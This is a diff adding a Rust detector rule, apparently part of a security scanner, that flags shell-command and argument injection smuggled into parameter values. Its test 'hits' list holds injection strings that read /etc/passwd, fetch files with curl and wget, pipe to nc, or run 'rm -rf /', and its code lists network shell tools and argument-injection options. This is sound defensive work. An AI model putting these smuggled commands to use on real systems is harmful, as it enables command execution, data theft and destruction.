@@ -1,0 +1,482 @@
+//! A value that breaks out of the argument it is meant for into a command of its own.
+
+use std::ops::Range;
+
+use aop_toon::{Phase, Severity};
+use memchr::{memchr_iter, memchr2, memchr3, memmem};
+
+use super::command::{attack, holds_command};
+use super::script::{Call, Command, RedirectKind};
+use super::{files, names, tokens};
+use crate::rule::{Rule, Status};
+use crate::scan::{Language, Look, Match, Parameter, Recognizer};
+
+/// `threats/shell-injection`
+pub static RULE: Rule = Rule {
+    id: "threats/shell-injection",
+    validator: "prompt_injection_detector",
+    severity: Severity::Error,
+    effect: None,
+    phase: Phase::Ingestion,
+    status: Status::Active,
+    summary: "shell command in a value",
+    why: "A tool that puts a value into a command line runs what stands behind the value's `;`, `|` or `$(`. Decided by what stands \
+          there: a command with arguments as commands have them. Left alone: prose and code that use the same signs, Markdown, \
+          tables, documents of several lines, and whole commands that break out of nothing.",
+    source: "CWE-77, CWE-78 and CWE-88; OWASP, Command Injection; OWASP, OS Command Injection Defense Cheat Sheet",
+};
+
+/// Finds commands in values.
+pub static RECOGNIZERS: &[Recognizer] = &[Recognizer {
+    rule: &RULE,
+    entity: "CODE_INJECTION",
+    region: None,
+    look: Look::Parameter(find),
+    hits: &[
+        "8.8.8.8; cat /etc/passwd",
+        "report.pdf && curl http://files.example/x -o /tmp/x",
+        "Berlin | nc files.example 4444",
+        "$(curl http://files.example/$(whoami))",
+        "invoice`wget http://files.example/a`",
+        "\"; rm -rf / #",
+        "photo.png%0aid;cat%20/etc/passwd",
+        "--upload-pack=touch /tmp/x",
+        "-oProxyCommand=sh -c 'id'",
+        "bob\nrm -rf ~/work",
+        r#"{"host": "127.0.0.1 || ping -c 10 127.0.0.1"}"#,
+        "127.0.0.1 & type C:\\Windows\\win.ini",
+    ],
+    misses: &[
+        "AT&T; call me",
+        "a | b",
+        "Use `curl -O https://files.example/data.csv` to get the data, then open it.",
+        "| id | name | date |\n|---|---|---|",
+        "name; id; date",
+        "https://shop.example/?q=shoes&sort=price&id=7",
+        "Tom; cat is hungry; find me at home",
+        "$(document).ready(function () { sleep(5); });",
+        "const id = 5; kill(pid); return cat(x);",
+        "build-$(date +%F)-$(git rev-parse HEAD)",
+        "--output=json",
+        "cd app && npm install && npm test",
+        "rock & roll; more | less",
+        "#!/bin/sh\nset -e\ncurl -O https://files.example/x\nrm -rf build\nmake\n",
+    ],
+}];
+
+/// A longer value, or one of more lines, is a document.
+const VALUE_BYTES_MAX: usize = 2048;
+const VALUE_LINES_MAX: usize = 4;
+/// So many signs of a value are looked at, each so far.
+const SIGNS_MAX: usize = 48;
+const COMMAND_BYTES_MAX: usize = 512;
+
+/// Where a value breaks out into a command.
+pub fn find(parameter: &Parameter<'_>) -> Option<Match> {
+    let text = parameter.text;
+    if parameter.is_key || parameter.language != Language::Undeclared || text.len() < 3 || is_document(text) {
+        return None;
+    }
+    if holds_command(parameter) {
+        return None;
+    }
+    if let Some(span) = option(text) {
+        return Some(Match { start: span.start, end: span.end, score: 0.8 });
+    }
+    let bytes = text.as_bytes();
+    if memchr3(b';', b'|', b'&', bytes).is_none() && memchr3(b'`', b'\n', b'$', bytes).is_none() {
+        return None;
+    }
+    let span = breakout(text)?;
+    Some(Match { start: span.start, end: span.end, score: 0.8 })
+}
+
+fn is_document(text: &str) -> bool {
+    text.len() > VALUE_BYTES_MAX || memchr_iter(b'\n', text.trim_ascii_end().as_bytes()).nth(VALUE_LINES_MAX - 1).is_some()
+}
+
+/// Options by which a program is made to run another: an argument that is none of the caller's (CWE-88).
+const OPTIONS: &[&str] = &[
+    "--upload-pack=",
+    "--upload-pack ",
+    "--receive-pack=",
+    "-oproxycommand=",
+    "-o proxycommand=",
+    "-oproxycommand ",
+    "--checkpoint-action=exec",
+    "--use-askpass=",
+    "--to-command=",
+    "--open-files-in-pager=",
+    "-ccore.sshcommand",
+    "-c core.sshcommand",
+    "--config=core.sshcommand",
+    "-c core.pager=",
+    "--rsh=sh",
+    "--rsh=bash",
+    "--rsync-path=sh",
+    "--use-compress-program=sh",
+    "--use-compress-program=bash",
+    "--post-file=/",
+    "--compress-program=sh",
+    "-olocalcommand=",
+    "--pre-command=",
+    "--exec=sh",
+    "--exec=/bin",
+    "--exec='",
+    "--eval=require",
+];
+
+/// Such an option at the value's start or behind a blank.
+fn option(text: &str) -> Option<Range<usize>> {
+    let is = |rest: &str| {
+        OPTIONS.iter().find(|option| rest.get(..option.len()).is_some_and(|head| head.eq_ignore_ascii_case(option)))
+    };
+    let found = |at: usize| is(&text[at..]).map(|_| at..text.len());
+    let start = text.len() - text.trim_start_matches([' ', '"', '\'']).len();
+    if text[start..].starts_with('-')
+        && let Some(span) = found(start)
+    {
+        return Some(span);
+    }
+    if text.starts_with("ext::") && text.len() > 6 || text.starts_with("ssh://-o") {
+        return Some(0..text.len());
+    }
+    memmem::find_iter(text.as_bytes(), b" -").take(8).find_map(|at| found(at + 1))
+}
+
+/// What stands before a sign.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Host {
+    /// A name, a number, an address: a value.
+    Value,
+    /// Sentences.
+    Prose,
+    /// One word that is also a command's name.
+    Name,
+    /// A command line of its own, which breaks out of nothing.
+    Command,
+}
+
+/// How much a command looks like what an attacker wants.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd)]
+enum Grade {
+    /// No command, or one that is an English word.
+    None,
+    /// A command with arguments as commands have them.
+    Plain,
+    /// One that fetches, removes, shows secrets, starts a shell.
+    Strong,
+}
+
+fn breakout(text: &str) -> Option<Range<usize>> {
+    let bytes = text.as_bytes();
+    let mut at = 0;
+    let first_word_is_command = starts_with_command(text);
+    for _ in 0..SIGNS_MAX {
+        let sign = next_sign(bytes, at)?;
+        let before = text[..sign].trim();
+        let length = sign_length(bytes, sign);
+        at = sign + length;
+        let operator = &bytes[sign..at];
+        let found = match operator {
+            b"$(" => substitution(text, sign, before, first_word_is_command, b')'),
+            b"`" => {
+                let close = memchr::memchr(b'`', &bytes[at..]).map(|length| at + length);
+                let found = close.and_then(|close| in_backticks(text, sign, close));
+                // What is in it is code.
+                at = close.map_or(at, |close| close + 1);
+                found
+            }
+            _ => behind_operator(text, sign, at, before, first_word_is_command),
+        };
+        if found.is_some() {
+            return found;
+        }
+    }
+    None
+}
+
+/// The next `;`, `|`, `&`, line's end, backtick or `$(`.
+fn next_sign(bytes: &[u8], mut at: usize) -> Option<usize> {
+    loop {
+        let rest = bytes.get(at..)?;
+        let operator = memchr3(b';', b'|', b'&', rest);
+        let rest = &rest[..operator.unwrap_or(rest.len())];
+        let other = memchr3(b'`', b'\n', b'$', rest);
+        let sign = at + other.or(operator)?;
+        if bytes[sign] != b'$' || bytes.get(sign + 1) == Some(&b'(') {
+            return Some(sign);
+        }
+        at = sign + 1;
+    }
+}
+
+fn sign_length(bytes: &[u8], sign: usize) -> usize {
+    match (bytes[sign], bytes.get(sign + 1)) {
+        (b'$', _) => 2,
+        (b'|', Some(b'|')) | (b'&', Some(b'&')) => 2,
+        _ => 1,
+    }
+}
+
+fn behind_operator(text: &str, sign: usize, from: usize, before: &str, first_is_command: bool) -> Option<Range<usize>> {
+    let bytes = text.as_bytes();
+    let rest = text[from..].trim_start_matches([' ', '\t', '(', '{']);
+    let start = text.len() - rest.len();
+    if !rest.starts_with(|first: char| {
+        first.is_ascii_alphabetic() || matches!(first, '/' | '\\' | '\'' | '"' | '$' | '.' | '`' | '{')
+    }) {
+        return None;
+    }
+    let operator = &bytes[sign..from];
+    let grade = grade(rest, operator, before)?;
+    let is_fit = match host(before, first_is_command) {
+        Host::Value => true,
+        Host::Name => grade.0 == Grade::Strong,
+        Host::Prose | Host::Command => false,
+    };
+    // A table's line has more of its signs.
+    let is_table = operator == b"|" && memchr_iter(b'|', line_around(text, sign).as_bytes()).nth(2).is_some();
+    let is_line = operator == b"\n" && memchr_iter(b'\n', before.as_bytes()).next().is_some();
+    let fits = is_fit && !(is_table && grade.0 < Grade::Strong) && !is_line;
+    let attacks = || {
+        let prose = host(before, first_is_command) == Host::Prose && operator != b"\n";
+        prose && attack(window(rest)).is_some()
+    };
+    (fits || attacks()).then(|| sign..start + grade.1)
+}
+
+fn substitution(text: &str, sign: usize, before: &str, first_is_command: bool, close: u8) -> Option<Range<usize>> {
+    let rest = &text[sign + 2..];
+    let end = memchr::memchr(close, window(rest).as_bytes())?;
+    // `$(id).hide()` is another language.
+    if text.as_bytes().get(sign + 2 + end + 1) == Some(&b'.') && !rest[..end].contains(' ') {
+        return None;
+    }
+    let (grade, _) = grade(rest, b"$(", before)?;
+    let is_fit = match host(before, first_is_command) {
+        Host::Value => true,
+        Host::Name | Host::Prose => grade == Grade::Strong,
+        Host::Command => false,
+    };
+    is_fit.then_some(sign..sign + 2 + end + 1)
+}
+
+/// Backticks are Markdown's, but not in a value.
+fn in_backticks(text: &str, sign: usize, close: usize) -> Option<Range<usize>> {
+    let inside = &text[sign + 1..close];
+    if inside.len() < 2 || inside.len() > COMMAND_BYTES_MAX {
+        return None;
+    }
+    let (before, behind) = (&text[..sign], &text[close + 1..]);
+    let is_glued = before
+        .ends_with(|last: char| last.is_alphanumeric() || matches!(last, '/' | '.' | '=' | '-' | '_' | '"' | '\'' | ';'));
+    let is_alone = before.trim().is_empty() && behind.trim().is_empty();
+    let words = before.split_whitespace().count() + behind.split_whitespace().count();
+    if !(is_glued || is_alone) || words > 6 {
+        return None;
+    }
+    let (grade, _) = grade(inside, b"`", "")?;
+    (grade == Grade::Strong || is_glued).then_some(sign..close + 1)
+}
+
+/// As much of a text as is looked at.
+fn window(text: &str) -> &str {
+    &text[..text.floor_char_boundary(COMMAND_BYTES_MAX.min(text.len()))]
+}
+
+fn line_around(text: &str, at: usize) -> &str {
+    let start = text[..at].rfind('\n').map_or(0, |before| before + 1);
+    let end = text[at..].find('\n').map_or(text.len(), |length| at + length);
+    &text[start..end]
+}
+
+fn host(before: &str, first_is_command: bool) -> Host {
+    let words = before.split_whitespace().take(10).count();
+    if first_is_command {
+        return if words <= 1 { Host::Name } else { Host::Command };
+    }
+    if words > 8 || before.contains(". ") { Host::Prose } else { Host::Value }
+}
+
+/// Whether a text begins with a command's name.
+fn starts_with_command(text: &str) -> bool {
+    let word = text.split([' ', '\n', '\t', ';', '|', '&']).find(|word| !word.is_empty()).unwrap_or_default();
+    word.len() <= 32 && names::starts_a_line(&super::script::base_name(word))
+}
+
+/// How much what stands there is a command, and how long it is.
+fn grade(rest: &str, operator: &[u8], before: &str) -> Option<(Grade, usize)> {
+    let rest = window(rest);
+    let script = tokens::read(rest);
+    let command = script.commands.first()?;
+    let call = command.call();
+    let name = call.words.first()?;
+    // `sleep(5)` is a call of another language.
+    let is_called = rest.as_bytes().get(name.span.end) == Some(&b'(') || name.raw.ends_with("()");
+    if is_called || !names::is_command(&call.name) && !names::is_tool_of_attack(&call.name) {
+        return None;
+    }
+    let grade = grade_of(&call, command, operator, before);
+    (grade != Grade::None).then_some((grade, command.span.end))
+}
+
+fn grade_of(call: &Call<'_>, command: &Command<'_>, operator: &[u8], before: &str) -> Grade {
+    let args: Vec<&str> = call
+        .args()
+        .iter()
+        .map(|word| word.text.trim_matches(['"', '\'', '`', '#', ')']))
+        .filter(|arg| !arg.is_empty())
+        .collect();
+    let redirects = !command.redirects.is_empty();
+    let is_odd = call.words[0].is_hidden || call.words.iter().any(|word| word.is_hidden);
+    if is_odd {
+        return Grade::Strong;
+    }
+    let bare = args.iter().filter(|arg| is_plain_word(arg)).count();
+    let technical = args.len() - bare;
+    let is_argument_like = technical > 0 && bare <= 1 && args.len() <= 16;
+    match &*call.name {
+        "cat" | "type" | "head" | "tail" | "less" | "more" | "tac" | "strings" | "xxd" | "nl" | "base64" | "grep" => {
+            let of_system = args.iter().any(|arg| is_system_path(arg));
+            if of_system
+                || command
+                    .redirects
+                    .iter()
+                    .any(|redirect| redirect.kind == RedirectKind::In && is_system_path(&redirect.target.text))
+            {
+                Grade::Strong
+            } else if is_argument_like && args.iter().any(|arg| arg.contains(['/', '.', '*']) && !arg.ends_with('.')) {
+                Grade::Plain
+            } else {
+                Grade::None
+            }
+        }
+        "rm" | "del" | "rmdir" | "rd" | "shred" | "unlink" => {
+            let has_option = args.iter().any(|arg| arg.starts_with('-') || arg.len() == 2 && arg.starts_with('/'));
+            let has_path = args.iter().any(|arg| arg.contains(['/', '.', '*', '~']));
+            if has_option && args.len() >= 2 && bare <= 2 {
+                Grade::Strong
+            } else if has_path && bare == 0 {
+                Grade::Plain
+            } else {
+                Grade::None
+            }
+        }
+        "curl" | "wget" | "nc" | "ncat" | "netcat" | "telnet" | "socat" | "fetch" | "certutil" | "ftp" | "tftp" | "iwr"
+        | "irm" | "iex" | "mshta" | "bitsadmin" => {
+            let is_target = |arg: &&str| arg.contains(['.', ':', '/', '$']) || arg.bytes().all(|byte| byte.is_ascii_digit());
+            if args.iter().any(is_target) && bare <= 2 { Grade::Strong } else { Grade::None }
+        }
+        "bash" | "sh" | "zsh" | "dash" | "ksh" | "python" | "python2" | "python3" | "perl" | "ruby" | "php" | "node"
+        | "powershell" | "pwsh" | "cmd" => {
+            if args.is_empty() {
+                // `curl … | sh` is in every manual.
+                let is_fetched = before.contains("curl") || before.contains("wget") || before.contains("iwr");
+                if operator == b"|" && !is_fetched { Grade::Plain } else { Grade::None }
+            } else if args
+                .iter()
+                .any(|arg| arg.starts_with('-') && arg.len() <= 4 || arg.starts_with('/') || arg.starts_with("-enc"))
+            {
+                Grade::Strong
+            } else {
+                Grade::None
+            }
+        }
+        "sleep" | "timeout" => {
+            let is_time = |arg: &&&str| arg.trim_end_matches(['s', 'm']).parse::<f64>().is_ok();
+            if args.len() == 1 && args.iter().filter(is_time).count() == 1 { Grade::Plain } else { Grade::None }
+        }
+        "ping" | "nslookup" | "dig" | "host" | "traceroute" => {
+            if is_argument_like && args.iter().any(|arg| arg.starts_with('-') || arg.contains('.') && !arg.ends_with('.')) {
+                Grade::Plain
+            } else {
+                Grade::None
+            }
+        }
+        "whoami" | "ifconfig" | "ipconfig" | "netstat" | "uname" | "systeminfo" | "printenv" | "ls" | "dir" | "pwd"
+        | "ps" | "id" | "env" | "hostname" | "set" | "ver" => {
+            let flags_only =
+                args.iter().all(|arg| arg.starts_with(['-', '/', '~', '.']) || arg.contains('\\') || is_system_path(arg));
+            if !flags_only {
+                return Grade::None;
+            }
+            let is_word = matches!(&*call.name, "id" | "env" | "hostname" | "set" | "ver" | "ps" | "dir");
+            let is_sure = match operator {
+                b"$(" | b"`" => !matches!(&*call.name, "pwd" | "hostname" | "env" | "set" | "dir" | "ver"),
+                b"&" | b"\n" => {
+                    !is_word && !args.is_empty() || call.is(&["whoami", "ifconfig", "ipconfig", "systeminfo", "netstat"])
+                }
+                b"|" => !is_word,
+                _ => !is_word || is_technical(before),
+            };
+            if is_sure { Grade::Plain } else { Grade::None }
+        }
+        "chmod" | "chown" | "dd" | "mkfs" | "mkfifo" | "useradd" | "crontab" | "xterm" | "reg" | "schtasks" | "mknod" => {
+            if is_argument_like {
+                Grade::Strong
+            } else {
+                Grade::None
+            }
+        }
+        "net" => {
+            if args.first().is_some_and(|arg| matches!(*arg, "user" | "localgroup" | "share" | "view")) {
+                Grade::Strong
+            } else {
+                Grade::None
+            }
+        }
+        "shutdown" | "reboot" | "halt" | "poweroff" | "kill" | "killall" | "pkill" => {
+            if args.iter().any(|arg| arg.starts_with(['-', '/'])) && bare <= 1
+                || args.is_empty() && call.is(&["reboot", "poweroff"]) && operator != b"|"
+            {
+                Grade::Plain
+            } else {
+                Grade::None
+            }
+        }
+        "echo" | "printf" => {
+            let writes = command
+                .redirects
+                .iter()
+                .any(|redirect| redirect.target.text.contains(['/', '.']) || redirect.kind == RedirectKind::Append);
+            let substitutes = args.iter().any(|arg| arg.contains("$()"));
+            if writes || substitutes { Grade::Plain } else { Grade::None }
+        }
+        "sudo" | "su" => {
+            if args.iter().any(|arg| arg.starts_with('-')) {
+                Grade::Plain
+            } else {
+                Grade::None
+            }
+        }
+        _ => {
+            if is_argument_like && (args.iter().any(|arg| arg.starts_with(['-', '/', '~']) && arg.len() > 1) || redirects) {
+                Grade::Plain
+            } else {
+                Grade::None
+            }
+        }
+    }
+}
+
+/// A word of a sentence: letters and what sentences put behind them.
+fn is_plain_word(text: &str) -> bool {
+    text.trim_end_matches(['.', ',', '!', '?', ':', ';', ')'])
+        .bytes()
+        .all(|byte| byte.is_ascii_alphabetic() || byte >= 0x80 || byte == b'\'' || byte == b'-')
+        && !text.starts_with('-')
+}
+
+fn is_system_path(path: &str) -> bool {
+    const FOLDERS: &[&str] = &["/etc/", "/proc/", "/root/", "/var/log/", "/home/", "c:\\windows", "c:/windows", "/windows/"];
+    let lower = path.to_ascii_lowercase();
+    files::is_secret(path) || FOLDERS.iter().any(|folder| lower.contains(folder)) || lower == "/etc" || lower == "/"
+}
+
+/// Whether what stands before is a value of a machine: nothing, an address, a file, a quoted text.
+fn is_technical(before: &str) -> bool {
+    before.ends_with(['"', '\'', ')'])
+        || before.is_empty()
+        || !before.contains(' ') && memchr2(b'.', b'/', before.as_bytes()).is_some() && !before.ends_with('.')
+}
